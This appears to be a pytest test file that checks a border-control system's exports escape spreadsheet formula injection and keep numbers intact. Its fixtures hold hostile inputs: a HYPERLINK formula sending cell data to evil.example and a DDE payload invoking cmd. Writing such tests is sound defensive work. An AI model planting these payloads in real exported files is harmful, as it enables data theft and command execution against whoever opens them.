"""Formula injection (issue 11): a name typed as a formula reaches no spreadsheet as a formula, in the
overstays CSV, in the statistics CSV/HXL/SDMX-CSV and in XLSX; figures (negative ones too) stay figures."""

import csv
import io
import uuid
from datetime import date

import numpy as np
import pytest
from openpyxl import load_workbook

from corredor.border.exports import write_overstays_csv
from corredor.border.selectors import OverstayRow
from corredor.core.exports import neutralise
from corredor.statistics import exports
from corredor.statistics.engine import DIMENSIONS, MEASURES, TOTAL, Result

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        (EVIL, "'" + EVIL),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("María", "María"),
        ("-12", "-12"),
        (-12, -12),
        (3.5, 3.5),
        (None, None),
    ],
)
def test_neutralise(value: object, safe: object) -> None:
    assert neutralise(value) == safe


def test_overstays_csv_with_a_formula_as_given_name() -> None:
    row = OverstayRow(
        traveller_id=uuid.uuid4(),
        surname="-SANJOSE",
        given_names=EVIL,
        nationality="NIC",
        birth_date=date(1990, 1, 2),
        document="C01X00T47",
        entry_post="SJO",
        entered_on=date(2024, 1, 1),
        category="tourist",
        authorised_until=date(2024, 3, 10),
        days_over=10,
    )
    out = io.StringIO()
    write_overstays_csv([row], out)
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["given_names"] == "'" + EVIL
    assert record["surname"] == "'-SANJOSE"
    assert record["days_over"] == "10" and record["birth_date"] == "1990-01-02"


def _result_with_evil_category() -> Result:
    values = np.array([7, -3, 4], dtype=np.int64)
    result = Result(
        measure=MEASURES["net_flow"],
        dims=[DIMENSIONS["post"]],
        categories=[[EVIL, "SJO", TOTAL]],
        margin_axes=[0],
        values=values,
        support=np.array([9, 9, 18], dtype=np.int64),
        date_from=date(2026, 1, 1),
        date_to=date(2026, 1, 31),
        filters={"nationality": [EVIL]},
    )
    return result.protect(5)


@pytest.mark.parametrize("fmt", ["csv", "hxl", "sdmx-csv"])
def test_statistics_text_exports_neutralise_categories(fmt: str) -> None:
    text = exports.render(_result_with_evil_category(), fmt).content.decode()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert EVIL not in cells and "'" + EVIL in cells
    assert "-3" in cells  # a negative figure is a figure


def test_statistics_xlsx_has_no_formula() -> None:
    content = exports.render(_result_with_evil_category(), "xlsx").content
    book = load_workbook(io.BytesIO(content))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    values = [cell.value for row in book["data"].iter_rows() for cell in row]
    assert "'" + EVIL in values and -3 in values
